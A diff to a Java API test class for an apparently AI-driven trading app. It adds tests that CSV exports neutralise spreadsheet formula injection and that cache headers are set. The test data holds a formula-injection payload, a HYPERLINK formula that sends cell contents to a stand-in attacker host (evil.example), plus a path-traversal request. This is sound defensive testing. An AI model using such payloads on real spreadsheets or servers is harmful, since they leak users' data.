@@ -3,12 +3,17 @@ package io.camelarena.api;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import java.math.BigDecimal;
 import java.net.http.HttpResponse;
 import java.sql.Connection;
+import java.sql.PreparedStatement;
+import java.sql.Timestamp;
 import java.time.Instant;
 import java.util.ArrayList;
 import java.util.HashSet;
+import java.util.LinkedHashMap;
 import java.util.List;
+import java.util.Map;
 import java.util.Set;
 import org.junit.jupiter.api.Test;
 
@@ -150,6 +155,90 @@ class DecisionApiTest extends ApiRuntimeTestSupport {
     }
 
     @Test
+    void csvTextCellsThatASpreadsheetWouldRunAsFormulasAreMadeText() throws Exception {
+        seeded();
+        int accountId = getJson("/api/accounts").get("items").get(0).get("id").asInt();
+        String link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+        try (Connection c = dataSource().getConnection(); PreparedStatement st = c.prepareStatement("INSERT INTO "
+                + "ai_decision_logs (account_id, decision_time, tick_id, reason, operation, symbol, target_portion, "
+                + "total_balance, status, provider, model, user_prompt, reasoning_trace, llm_output, error_message) "
+                + "VALUES (?, ?, 'csv-test', ?, 'hold', 'ETH', ?, ?, 'HOLD', 'simulated', ?, ?, ?, ?, ?)")) {
+            st.setInt(1, accountId);
+            st.setTimestamp(2, Timestamp.from(Instant.parse("2031-01-01T00:00:00Z")));
+            st.setString(3, link);
+            st.setBigDecimal(4, new BigDecimal("-0.25"));
+            st.setBigDecimal(5, new BigDecimal("-12.5"));
+            st.setString(6, "+model");
+            st.setString(7, "@SUM(1+1)");
+            st.setString(8, "\tcmd");
+            st.setString(9, "\r-2+3");
+            st.setString(10, "-2+3 loss, said the model");
+            st.executeUpdate();
+        }
+        try {
+            Map<String, String> row = csvRecords(get("/api/decisions/export?format=csv&tick=csv-test").body()).get(0);
+            assertThat(row).containsEntry("reason", "'" + link).containsEntry("model", "'+model")
+                    .containsEntry("user_prompt", "'@SUM(1+1)").containsEntry("reasoning_trace", "'\tcmd")
+                    .containsEntry("llm_output", "'\r-2+3").containsEntry("error_message", "'-2+3 loss, said the model")
+                    // Numbers are numbers (their sign kept); texts that start otherwise are unchanged.
+                    .containsEntry("target_portion", "-0.25").containsEntry("total_balance", "-12.5")
+                    .containsEntry("symbol", "ETH").containsEntry("tick_id", "csv-test");
+            assertThat(row.get("decision_time")).startsWith("2031-01-01T00:00:00");
+            // JSON lines are data, not a spreadsheet: texts verbatim.
+            JsonNode line = JSON.readTree(get("/api/decisions/export?format=jsonl&tick=csv-test").body());
+            assertThat(line.get("reason").asText()).isEqualTo(link);
+            assertThat(line.get("llm_output").asText()).isEqualTo("\r-2+3");
+        } finally {
+            try (Connection c = dataSource().getConnection(); var st = c.createStatement()) {
+                st.executeUpdate("DELETE FROM ai_decision_logs WHERE tick_id = 'csv-test'");
+            }
+        }
+    }
+
+    /** RFC 4180 records (CRLF between records, quoted fields may hold commas, quotes and line breaks) by header. */
+    private static List<Map<String, String>> csvRecords(String csv) {
+        List<List<String>> records = new ArrayList<>();
+        List<String> fields = new ArrayList<>();
+        StringBuilder field = new StringBuilder();
+        boolean quoted = false;
+        for (int i = 0; i < csv.length(); i++) {
+            char ch = csv.charAt(i);
+            if (quoted) {
+                if (ch == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
+                    field.append('"');
+                    i++;
+                } else if (ch == '"') {
+                    quoted = false;
+                } else {
+                    field.append(ch);
+                }
+            } else if (ch == '"') {
+                quoted = true;
+            } else if (ch == ',') {
+                fields.add(field.toString());
+                field.setLength(0);
+            } else if (ch == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
+                fields.add(field.toString());
+                field.setLength(0);
+                records.add(fields);
+                fields = new ArrayList<>();
+                i++;
+            } else {
+                field.append(ch);
+            }
+        }
+        List<Map<String, String>> rows = new ArrayList<>();
+        for (List<String> record : records.subList(1, records.size())) {
+            Map<String, String> row = new LinkedHashMap<>();
+            for (int i = 0; i < record.size(); i++) {
+                row.put(records.get(0).get(i), record.get(i));
+            }
+            rows.add(row);
+        }
+        return rows;
+    }
+
+    @Test
     void accountsPositionsOrdersWithoutSecrets() throws Exception {
         seeded();
         HttpResponse<String> accounts = get("/api/accounts");
@@ -199,6 +288,10 @@ class DecisionApiTest extends ApiRuntimeTestSupport {
         assertThat(page.statusCode()).isEqualTo(200);
         assertThat(page.headers().firstValue("Content-Type").orElse("")).startsWith("text/html");
         assertThat(page.body()).contains("/web/app.js");
+        // The routes' Cache-Control reaches the client (Camel's HTTP header filter dropped it: ApiResponseHeaders).
+        assertThat(page.headers().allValues("Cache-Control")).containsExactly("no-cache");
+        assertThat(get("/web/app.js").headers().allValues("Cache-Control")).containsExactly("no-cache");
+        assertThat(get("/api/decisions?limit=1").headers().allValues("Cache-Control")).containsExactly("no-store");
         assertThat(get("/web/app.js").statusCode()).isEqualTo(200);
         assertThat(get("/web/app.css").statusCode()).isEqualTo(200);
         assertThat(get("/web/..%2Fapplication.properties").statusCode()).isEqualTo(404);
